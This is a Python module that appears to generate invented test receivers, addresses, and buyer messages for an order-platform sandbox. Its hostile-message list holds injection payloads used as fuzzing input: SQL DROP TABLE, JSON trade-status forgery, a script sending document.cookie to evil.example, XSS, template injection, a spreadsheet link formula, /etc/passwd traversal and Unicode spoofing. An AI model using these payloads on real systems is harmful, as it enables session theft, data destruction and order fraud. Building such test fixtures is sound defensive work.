"""Receivers and what they write. Every value is invented; the same seed gives the same person."""

import random

from sandbox.model import Expected, Person, PlannedOrder

_SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何林高罗郑梁谢宋唐许邓冯韩曹曾彭萧蔡潘田董袁于余"
_GIVEN = "伟芳娜敏静丽强磊军洋勇艳杰娟涛明超兰霞平刚桂英华玉萍红宇晨欣怡子轩浩然梓涵一诺思远"
_ROADS = ("人民路", "中山北路", "解放大道", "建设二路", "学府街", "滨河东路", "创业大道", "文一西路", "古墩路")
_ESTATES = ("阳光花园", "翠苑小区", "万科城", "金色家园", "软件产业基地", "碧桂园", "绿城百合")
_TOWNS = ("城关街道", "新塘街道", "北苑街道", "龙洞街道", "")
_MOBILE_PREFIXES = ("13", "15", "17", "18", "19")
_BRAZILIAN_NAMES = ("Ana", "João", "Maria", "José", "Luiza", "Pedro", "Camila", "Rafael", "Beatriz", "Antônio")
_BRAZILIAN_SURNAMES = ("Silva", "Souza", "Conceição", "Araújo", "Gonçalves", "Ferreira", "Magalhães")
_BRAZILIAN_ROADS = ("Rua das Flores", "Avenida São João", "Travessa do Comércio", "Rua XV de Novembro")
VAGUE_WORD = "待定"

_USUAL_MESSAGES = (
    "",
    "",
    "",
    "周末配送",
    "麻烦尽快发货,谢谢🙏",
    "放快递柜就行📦📦",
    "生日礼物🎁请不要放价格单 👨‍👩‍👧",
    "电话联系不上请短信",
    "要黑色的!!!",
)
_HOSTILE_MESSAGES = (
    "'; DROP TABLE orders; --",
    '"}],"trade":{"status":"TRADE_FINISHED"}}',
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "{{7*7}} ${7*7} %s%s%n {0.__class__}",
    '=HYPERLINK("http://evil.example","查看")',
    "../../../../etc/passwd",
    "\u202e\u0645\u0631\u062d\u0628\u0627 gnp.exe\u202c",
    "零\u200b宽\u200d字\ufeff符",
    "换行\u2028分段\u2029制表\t回车\r\n结束",
    "Z̷̡͔a̴͕l̸g̵o̶ ﷽ 𝕳𝖊𝖑𝖑𝖔 ｆｕｌｌｗｉｄｔｈ",
    "发顺丰!" * 600,
)
_SELLER_MEMOS = ("", "", "", "", "改为发顺丰", "送小样两份", "老客户,加急", "已电话确认地址", "开专票📄")
_HOSTILE_SHARE = 0.02


def person_of(order: PlannedOrder) -> Person:
    """The receiver of an order; a buyer keeps name, number and street from order to order in one place."""
    if order.person is not None:
        return order.person
    draw = random.Random(order.buyer)
    person = _brazilian(draw) if order.place.country == "BR" else _chinese(draw)
    if order.expected is Expected.VAGUE_ADDRESS:
        return Person(person.name, person.mobile, person.town, f"{person.detail}(门牌{VAGUE_WORD})")
    return person


def masked(person: Person) -> Person:
    """First character of the name, ends of the number, no street and no digits of the address."""
    name = person.name[:1] + "*" * max(1, len(person.name) - 1)
    mobile = f"{person.mobile[:3]}****{person.mobile[-4:]}"
    street = person.detail[:1] + "**" + person.detail[3:]
    detail = "".join(["*" if letter.isdigit() else letter for letter in street])
    return Person(name, mobile, person.town, detail)


def buyer_message(draw: random.Random) -> str:
    """A message: mostly harmless, sometimes hostile; never with a NUL, which the platform refuses."""
    if draw.random() < _HOSTILE_SHARE:
        return draw.choice(_HOSTILE_MESSAGES)
    return draw.choice(_USUAL_MESSAGES)


def seller_memo(draw: random.Random) -> str:
    return draw.choice(_SELLER_MEMOS)


def _chinese(draw: random.Random) -> Person:
    given = "".join(draw.choices(_GIVEN, k=draw.choice((1, 2, 2))))
    mobile = f"{draw.choice(_MOBILE_PREFIXES)}{draw.randrange(10**9):09d}"
    street = f"{draw.choice(_ROADS)}{draw.randrange(1, 999)}号"
    home = f"{draw.choice(_ESTATES)}{draw.randrange(1, 40)}幢{draw.randrange(101, 2904)}室"
    return Person(draw.choice(_SURNAMES) + given, mobile, draw.choice(_TOWNS), street + home)


def _brazilian(draw: random.Random) -> Person:
    name = f"{draw.choice(_BRAZILIAN_NAMES)} {draw.choice(_BRAZILIAN_SURNAMES)}"
    mobile = f"{draw.randrange(11, 99)}9{draw.randrange(10**8):08d}"
    street = f"{draw.choice(_BRAZILIAN_ROADS)}, {draw.randrange(1, 2000)}, apto {draw.randrange(1, 200)}"
    return Person(name, mobile, "", street)
